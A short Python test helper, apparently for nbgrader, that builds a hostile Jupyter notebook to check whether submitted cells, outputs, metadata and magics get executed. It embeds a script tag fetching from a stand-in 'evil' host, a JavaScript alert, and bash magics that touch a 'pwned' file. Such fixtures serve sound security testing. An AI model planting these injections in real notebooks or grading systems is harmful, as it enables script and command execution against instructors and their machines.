"""Is a notebook whose outputs, metadata and magics would run in a browser and in a shell (nbgrader serves them as HTML)."""

import json


def hand_in(folder, work, targets):
    script = "<script>fetch('//evil')</script>"
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": script, "application/javascript": "alert(1)"}}
    shell = f"!touch {targets['folder']}/pwned\n%%bash\ntouch {targets['folder']}/pwned\n"
    cells = [
        {"cell_type": "markdown", "source": script, "metadata": {}},
        {"cell_type": "code", "source": shell, "metadata": {}, "outputs": [output]},
        {"cell_type": "code", "source": "%%html\n" + script, "metadata": {}, "outputs": [output]},
        {"cell_type": "code", "source": work, "metadata": {"nbgrader": {"points": 100}}, "outputs": [output]},
    ]
    made = {"cells": cells, "metadata": {"widgets": {"text": script}}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "mallory.ipynb").write_text(json.dumps(made))


WORTH, WORDS = 100, "cell"
